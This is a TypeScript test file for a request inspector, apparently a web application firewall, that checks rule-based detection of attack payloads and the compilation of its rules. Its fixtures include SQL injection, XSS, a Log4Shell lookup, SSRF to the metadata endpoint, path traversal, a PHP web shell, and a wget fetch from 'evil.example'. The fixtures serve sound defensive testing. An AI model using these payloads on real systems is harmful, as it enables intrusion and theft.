import { fileURLToPath } from "node:url";
import { describe, expect, it } from "vitest";
import { createInspector } from "../../src/index.ts";
import { loadRules } from "../../src/inspect/rules/load.ts";
import { compileRules } from "../../src/inspect/rules/compile.ts";
import { readDirectives } from "../../src/inspect/rules/seclang/directives.ts";
import { charClasses } from "../../src/core/char-class.ts";
import { RuleSet } from "../../src/inspect/rules/rule-set.ts";

const inspector = await createInspector();
const rules = await loadRules(fileURLToPath(new URL("../../rules", import.meta.url)));

async function categories(value: object): Promise<string[]> {
  const { findings } = await inspector.inspect({ contentType: "application/json", body: JSON.stringify(value) });
  return [...new Set(findings.filter(({ action }) => action !== "report").map(({ category }) => category))];
}

describe("the own pack finds", () => {
  it.each([
    ["sqli", "x' OR '1'='1' -- "],
    ["sqli", "1 UNION ALL SELECT login, pass FROM staff"],
    ["sqli", "7; DROP TABLE invoices"],
    ["xss", "<img src=x onerror=alert(1)>"],
    ["xss", "<a href='java\tscript:steal()'>x</a>"],
    ["rce", "a.png; wget http://evil.example/x"],
    ["lfi", "../../../../etc/passwd"],
    ["java", "${${lower:j}ndi:ldap://evil.example/a}"],
    ["ssrf", "http://169.254.169.254/latest/meta-data/"],
    ["ssrf", "http://0x7f000001/"],
    ["ssti", "{{7*'7'}}"],
    ["nosql", "'; return this.password == 'x"],
    ["crlf", "x\r\nSet-Cookie: admin=1"],
    ["xxe", '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/hostname">]>'],
    ["deserialization", 'O:8:"Customer":1:{s:4:"name";s:1:"x";}'],
    ["prototype-pollution", "__proto__[admin]=1"],
    ["ldap", "*)(uid=*"],
    ["php", "<?php system($_GET['c']); ?>"],
  ])("%s in %j, and in its URL- and HTML-encoded forms", async (category, payload) => {
    expect(await categories({ note: payload })).toContain(category);
    expect(await categories({ note: encodeURIComponent(payload) })).toContain(category);
    expect(
      await categories({ note: payload.replaceAll(/[^a-z]/gi, (c) => `&#x${c.charCodeAt(0).toString(16)};`) }),
    ).toContain(category);
  });

  it("operators and prototypes as keys", async () => {
    expect(await categories({ filter: { $ne: null } })).toEqual(["nosql"]);
    const { verdict, body } = await inspector.inspect({
      contentType: "application/json",
      body: '{"a":1,"__proto__":{"x":1},"b":2}',
    });
    expect([verdict, Buffer.from(body).toString()]).toEqual(["sanitized", '{"a":1,"b":2}']);
  });
});

it.each([
  "Please select a new address from the list, and update it where needed or drop us a note.",
  "It's 5 o'clock and Ana's order isn't here; she said 'yes' and 'no'.",
  '<p>See <a href="https://example.com"><b>the docs</b></a></p>',
  "Dear {{name}}, your total is ${total}",
  "https://api.example.com/v1/users?limit=10&cursor=abc&sort=-created",
  "Use `foo` or `bar` to group by 3 columns",
  "10.0.0.1",
  "C++ & C# > Java?",
])("leaves %j alone", async (note) => {
  expect(await categories({ note })).toEqual([]);
});

it("a broken rule says file, line and reason", () => {
  const compile = (text: string) => compileRules(readDirectives(text, "x.conf"));
  const tail = `"id:1,tag:'attack-sqli'"`;
  expect(() => compile(`\n\nSecRule ARGS "@rx (" ${tail}`)).toThrow(/^x\.conf:3: @rx: Invalid regular expression/);
  expect(() => compile(`SecRule ARGS "@frob x" ${tail}`)).toThrow("x.conf:1: the operator @frob is not known");
  expect(() => compile(`SecRule FILES "@rx x" ${tail}`)).toThrow("x.conf:1: the variable FILES is not understood yet");
  expect(() => compile('SecRule ARGS "@rx x')).toThrow(/^x\.conf:1: a quoted word does not end/);
  expect(() => compile(`SecRule ARGS "@rx x" "chain,id:1,tag:'attack-sqli'"`)).toThrow(
    "x.conf:1: the chain has no last rule",
  );
});

it("the prefilter never hides a match", () => {
  const set = new RuleSet(rules, 4);
  const samples = [
    "x' or 1=1",
    "<svg/onload=a()>",
    "${jndi:x}",
    "../../a",
    "plain words",
    "{{7*7}}",
    "a\nb: c",
    'O:1:"a":0:{',
    ";id",
    "%27",
    "SELECT a FROM b",
  ];
  for (const a of samples)
    for (const b of samples) {
      const value = a + b;
      const expected = rules.filter(({ conditions }) => {
        const [first] = conditions;
        if (!first.targets.has("values")) return false;
        return conditions.every(
          ({ transformations, operator, negated }) =>
            (operator.match(transformations.reduce((text, one) => one.apply(text), value)) !== undefined) !== negated,
        );
      });
      expect(set.matches("values", value, charClasses(value)).map(({ rule }) => rule.id)).toEqual(
        expected.map(({ id }) => id),
      );
    }
});
